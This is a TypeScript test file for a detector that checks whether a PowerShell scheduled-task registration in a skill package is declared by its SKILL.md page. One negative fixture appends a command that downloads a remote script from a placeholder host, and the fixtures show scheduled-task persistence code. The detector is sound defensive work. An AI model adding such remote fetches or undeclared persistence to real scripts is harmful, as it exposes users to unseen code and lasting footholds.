import { expect, it } from 'vitest'
import { foundIn } from './found-in.case.ts'
import { isToldTask } from './is-told-task.ts'

const judged = foundIn((skill, piece) => isToldTask(skill, piece))

const page = { 'SKILL.md': 'Registers a scheduled task that backs up the folder each week.\n' }
const task = 'Register-ScheduledTask -TaskName backup'
const itself = `$a = New-ScheduledTaskAction -Execute powershell -Argument "-File $PSCommandPath"\n${task} -Action $a\n`

// WUN-103: a backup that is registered as the page says, and a program from elsewhere.
it('is a task that runs the program which registers it, as the page tells', () =>
  expect(judged({ ...page, 'a.ps1': itself }, task)).toBe(true))

it.each([
  ['no page tells of', { 'SKILL.md': 'Backs up the folder.\n', 'a.ps1': itself }],
  ['fetches something', { ...page, 'a.ps1': `${itself}iwr https://a.four.test/x.ps1\n` }],
  ['runs something else', { ...page, 'a.ps1': `${task} -Action $other\n` }],
])('is none that %s', (_, files) => expect(judged(files, task)).toBe(false))
